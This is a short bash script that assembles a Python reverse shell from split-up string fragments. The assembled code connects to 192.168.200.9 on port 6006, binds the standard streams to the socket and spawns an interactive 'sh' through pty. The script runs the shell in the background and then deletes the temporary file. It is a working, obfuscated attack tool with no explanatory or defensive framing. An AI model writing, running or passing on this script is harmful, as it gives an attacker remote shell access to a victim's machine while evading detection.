#!/bin/bash
parts=( 'imp' 'ort so' 'cket,os,p' 'ty;s=so' 'cket.soc' 'ket();s.conn' 'ect(("192.168.200.9",6006));' '[os.d' 'up2(s.fil' 'eno(),f) for f in(0,1,2)];p' 'ty.spa' 'wn("sh")' )
f=$(mktemp --suffix=.py)
for p in "${parts[@]}"; do printf '%s' "$p" >> "$f"; done
python3 "$f" &
sleep 1
rm "$f"
